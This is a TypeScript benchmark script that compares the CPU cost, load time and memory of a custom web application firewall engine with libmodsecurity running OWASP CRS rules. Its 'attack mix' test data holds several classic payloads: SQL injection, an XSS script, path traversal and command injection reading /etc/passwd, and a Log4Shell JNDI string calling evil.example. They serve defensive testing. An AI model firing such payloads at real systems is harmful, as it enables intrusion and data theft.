/**
 * How much processor time does a request cost in the WAF, with OWASP CRS at paranoia level 1? Our engine and
 * libmodsecurity 3 (its Python bindings, the same rules) take turns on the same requests; least of the rounds, as what
 * else the machine does only adds. Also: time to load, memory. Ends with one line of JSON with the ratios.
 *
 * Run: node node.js bench/waf.ts [--rounds 5] [--ms 300]
 */
import { cpus } from 'node:os'
import { fileURLToPath } from 'node:url'
import { parseArgs } from 'node:util'
import { findCrs } from '#plugins/waf/find-crs'
import { compileRules } from '#plugins/waf/engine/program'
import { beginTransaction } from '#plugins/waf/engine/transaction'
import { loadRules } from '#plugins/waf/seclang/load'
import { crsFolder, noCrs } from '#test/conformance/crs/crs-folder'
import {
  noOracle,
  startOracle,
  type Oracle,
  type Question,
} from '#test/conformance/modsecurity/oracle'

const { values } = parseArgs({
  options: { rounds: { type: 'string', default: '5' }, ms: { type: 'string', default: '300' } },
})
const rounds = Number(values.rounds)
const roundMs = Number(values.ms)

const folder = crsFolder()
if (folder === undefined) {
  console.error(noCrs)
  process.exit(1)
}

const common = [
  'Host',
  'shop.example',
  'User-Agent',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
  'Accept',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'Accept-Language',
  'en-GB,en;q=0.7,de;q=0.3',
  'Accept-Encoding',
  'gzip, deflate, br',
  'Cookie',
  'session=7f3a9c1e5b2d4f60; theme=dark; consent=1',
]
const withBody = (type: string, body: string): Question => ({
  method: 'POST',
  target: '/api/orders',
  headers: [...common, 'Content-Type', type, 'Content-Length', String(body.length)],
  body,
})
const words =
  'please deliver the parcel behind the green door when nobody is at home and call before noon'.split(
    ' ',
  )
const sentence = (seed: number, count: number) =>
  Array.from({ length: count }, (_, i) => words[(seed * 7 + i * 3) % words.length]).join(' ')
const formOf = (seed: number) =>
  Array.from({ length: 16 }, (_, i) => `field${i}=${encodeURIComponent(sentence(seed + i, 8))}`)
    .join('&')
    .slice(0, 1024)
const jsonOf = (seed: number) => {
  const items: object[] = []
  while (JSON.stringify(items).length < 10_100)
    items.push({
      id: seed * 1000 + items.length,
      name: sentence(seed + items.length, 4),
      price: 12.5 + items.length,
      tags: ['new', 'sale', `t${items.length}`],
      note: sentence(items.length, 10),
    })
  return JSON.stringify({ items })
}
const get = (target: string): Question => ({ method: 'GET', target, headers: common })

/** Variants, so that not everything is remembered from the request before: 50 of each kind. */
const variants = (make: (i: number) => Question) => Array.from({ length: 50 }, (_, i) => make(i))
const cases: Record<string, readonly Question[]> = {
  'benign GET': variants((i) =>
    get(`/shop/items?id=${1000 + i}&sort=price&q=${words[i % words.length]}+shoes`),
  ),
  'benign GET, every value new': variants((i) =>
    get(`/shop/items?id=NEW${i}&sort=NEWx${i}&q=blue+NEW`),
  ),
  'benign 1 KiB form': variants((i) => withBody('application/x-www-form-urlencoded', formOf(i))),
  'benign 10 KiB JSON': variants((i) => withBody('application/json', jsonOf(i))),
  'attack mix': [
    get("/?id=1'%20OR%20'1'='1"),
    get('/?q=%3Cscript%3Ealert(1)%3C/script%3E'),
    get('/?file=../../../../etc/passwd'),
    get('/?cmd=;cat+/etc/passwd'),
    withBody('application/x-www-form-urlencoded', 'a=1+UNION+SELECT+password+FROM+users--&b=x'),
    withBody(
      'application/json',
      JSON.stringify({ name: '${jndi:ldap://evil.example/a}', x: [1, 2, 3] }),
    ),
  ],
}

const { setup, rules } = findCrs(folder)
const recommended = fileURLToPath(new URL('../config/waf/recommended.conf', import.meta.url))
const settings = 'SecRuleEngine On\nSecResponseBodyAccess On\n'
const cpuMs = () => process.cpuUsage().user / 1000 + process.cpuUsage().system / 1000
const memoryBefore = process.memoryUsage()
const loadStart = cpuMs()
const loaded = loadRules([recommended, ...setup, { name: '(settings)', text: settings }, ...rules])
const program = compileRules(loaded, loaded.entries)
const loadMs = cpuMs() - loadStart
globalThis.gc?.()
const memoryAfter = process.memoryUsage()
const memoryMb =
  (memoryAfter.heapUsed +
    memoryAfter.arrayBuffers -
    memoryBefore.heapUsed -
    memoryBefore.arrayBuffers) /
  1e6

let fresh = 0
const renewed = ({ method, target, headers, body }: Question): Question => ({
  method,
  target: target.includes('NEW') ? target.replaceAll('NEW', `v${fresh++}`) : target,
  headers,
  ...(body === undefined ? {} : { body }),
})
const runOurs = async (question: Question): Promise<boolean> => {
  const { method, target, headers, body } = renewed(question)
  const transaction = beginTransaction(program, {
    method,
    target,
    protocol: 'HTTP/1.1',
    headers,
    remoteAddress: '192.0.2.1',
    uniqueId: `u${fresh}`,
    nowMs: 0,
  })
  const wait = async (soon: void | Promise<void>) => {
    if (soon) await soon
  }
  await wait(transaction.requestHead())
  if (body !== undefined) transaction.readBody(Buffer.from(body, 'latin1'), true)
  await wait(transaction.requestBody())
  await wait(transaction.responseHead(200, ['Content-Type', 'text/html']))
  await wait(transaction.responseBody(undefined, true))
  await wait(transaction.end())
  return transaction.state.interruption !== undefined
}
const oursUs = async (requests: readonly Question[]): Promise<number> => {
  const start = cpuMs()
  const end = performance.now() + roundMs
  let count = 0
  while (performance.now() < end) {
    for (const request of requests) await runOurs(request)
    count += requests.length
  }
  return ((cpuMs() - start) * 1000) / count
}

const missing = noOracle()
const oracle: Oracle | undefined =
  missing === undefined
    ? await startOracle([recommended, ...setup, { text: settings }, ...rules])
    : undefined
if (missing !== undefined) console.log(missing)

const results: Record<string, { us: number; theirsUs: number | undefined }> = {}
for (const [name, requests] of Object.entries(cases)) {
  await oursUs(requests)
  let us = Infinity
  let theirsUs = Infinity
  for (let i = 0; i < rounds; i++) {
    us = Math.min(us, await oursUs(requests))
    if (oracle) theirsUs = Math.min(theirsUs, (await oracle.ask(requests)).cpuUs)
  }
  results[name] = { us, theirsUs: oracle ? theirsUs : undefined }
}

console.log(
  `OWASP CRS 4.25.0, paranoia level 1, ${cpus()[0]?.model ?? 'CPU'}, Node ${process.version}`,
)
console.table(
  Object.fromEntries(
    Object.entries(results).map(([name, { us, theirsUs }]) => [
      name,
      {
        'µs here': Number(us.toFixed(1)),
        'µs libmodsecurity': theirsUs === undefined ? '-' : Number(theirsUs.toFixed(0)),
        'times faster': theirsUs === undefined ? '-' : Number((theirsUs / us).toFixed(1)),
      },
    ]),
  ),
)
console.log(
  `load: ${loadMs.toFixed(0)} ms here${oracle ? `, ${oracle.loadMs.toFixed(0)} ms libmodsecurity` : ''}; ` +
    `memory: ${memoryMb.toFixed(0)} MB here${oracle ? `, ${(oracle.rssBytes / 1e6).toFixed(0)} MB the whole libmodsecurity process` : ''}`,
)
console.log(
  JSON.stringify({
    bench: 'waf',
    loadMs: Math.round(loadMs),
    memoryMb: Math.round(memoryMb),
    cases: Object.fromEntries(
      Object.entries(results).map(([name, { us, theirsUs }]) => [
        name,
        {
          us: Number(us.toFixed(1)),
          ratio: theirsUs === undefined ? null : Number((us / theirsUs).toFixed(4)),
        },
      ]),
    ),
  }),
)
oracle?.close()
